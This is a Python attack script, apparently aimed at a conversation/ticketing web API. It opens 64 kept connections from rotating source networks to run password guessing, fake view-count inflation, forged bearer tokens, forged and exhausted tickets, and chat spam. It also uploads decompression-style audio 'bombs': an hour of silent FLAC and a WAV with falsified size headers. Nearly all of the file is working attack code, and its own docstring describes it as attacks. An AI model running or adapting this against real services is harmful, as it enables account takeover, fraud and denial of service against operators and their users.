"""Attacks on the API over kept connections: `api.py KIND HOST PORT SECONDS SLUG`.

signin  passwords of a list, for accounts that are guessed
here    reports of pages that are nobody's, to inflate the count
tokens  forged tokens, each checked
floor   lines for the chat
forgeries  tickets and places that nobody gave
tickets    tickets and places, as many as there are, that nobody uses, from few networks
bombs      sound that is hours long in a few kilobytes, by somebody who may bring clips: `… SLUG TOKEN`
"""
import itertools
import json
import random
import subprocess
import sys

from sources import connect, few_networks, many_networks, tell, until

CONNECTIONS = 64


def request(kind, slug, n, rng):
    fields, method = "", "POST"
    if kind == "signin":
        path, body = "/api/v1/sign-in/password", json.dumps({"handle": f"user{n % 50}", "password": f"correct horse {n}"})
    elif kind == "here":
        path, body = f"/c/{slug}/here", f"id={rng.randrange(2 ** 54)}"
    elif kind == "tokens":
        path, body, method = f"/api/v1/conversations/{slug}", "", "GET"
        fields = f"Authorization: Bearer eyJhbGciOiJFZERTQSIsImtpZCI6IjAwIn0.{'e30' * (n % 300)}.{'A' * 86}\r\n"
    elif kind == "forgeries":
        what = ("ticket", "place")[n % 2]
        path, body = f"/c/{slug}/tickets", json.dumps({what: "A" * rng.randrange(20, 200), "secret": f"{rng.randrange(2 ** 64):032x}"})
    elif kind == "tickets":
        path, body = f"/c/{slug}/tickets", json.dumps({"tier": "stream"})
    else:
        path, body = f"/api/v1/conversations/{slug}/chat", json.dumps({"text": f"buy {n}"})
    length = f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n" if body else ""
    return f"{method} {path} HTTP/1.1\r\nHost: attacked\r\n{fields}{length}\r\n{body}".encode()


def bombs(to, seconds, slug, token):
    """One upload after the other: an hour of silence, and what says that it is sound and is none."""
    make = ["ffmpeg", "-v", "error", "-f", "lavfi", "-i", "anullsrc=r=48000:cl=stereo", "-t", "3600", "-c:a", "flac", "-f", "flac", "-"]
    hours = subprocess.run(make, capture_output=True, check=True).stdout
    wave = b"RIFF\xff\xff\xff\x7fWAVEfmt \x10\0\0\0\x01\0\xff\0\x80\xbb\0\0\0\0\0\0\0\0\x10\0data\xff\xff\xff\x7f" + bytes(4096)
    statuses, sources = {}, many_networks()
    for n in until(float(seconds)):
        line = connect(next(sources), to, 20.0)
        body = hours if n % 2 == 0 else wave
        head = f"POST /api/v1/conversations/{slug}/clips?title=bomb{n} HTTP/1.1\r\nHost: attacked\r\nAuthorization: Bearer {token}\r\n"
        try:
            line.sendall(f"{head}Content-Type: application/octet-stream\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body)
            status = line.recv(4096)[9:12].decode("latin-1") or "closed"
        except (OSError, AttributeError):
            status = "none"
        statuses[status] = statuses.get(status, 0) + 1
        if line:
            line.close()
    tell(**statuses, bytes_of_each=len(hours))


def main(kind, host, port, seconds, slug, token=""):
    if kind == "bombs":
        return bombs((host, int(port)), seconds, slug, token)
    to, sources, rng = (host, int(port)), few_networks() if kind == "tickets" else many_networks(), random.Random(1)
    lines, statuses = [None] * CONNECTIONS, {}
    count = itertools.count()
    for _ in until(float(seconds)):
        asked = []
        for at in range(CONNECTIONS):
            if lines[at] is None:
                lines[at] = connect(next(sources), to, 1.0)
            if lines[at] is None:
                continue
            try:
                lines[at].sendall(request(kind, slug, next(count), rng))
                asked.append(at)
            except OSError:
                lines[at].close()
                lines[at] = None
        for at in asked:
            try:
                answer = lines[at].recv(65536)
                status = answer[9:12].decode("latin-1") or "closed"
            except OSError:
                status = "none"
            statuses[status] = statuses.get(status, 0) + 1
            if not status.isdigit() or b"onnection: close" in answer:
                lines[at].close()
                lines[at] = None
    tell(**statuses)


main(*sys.argv[1:])
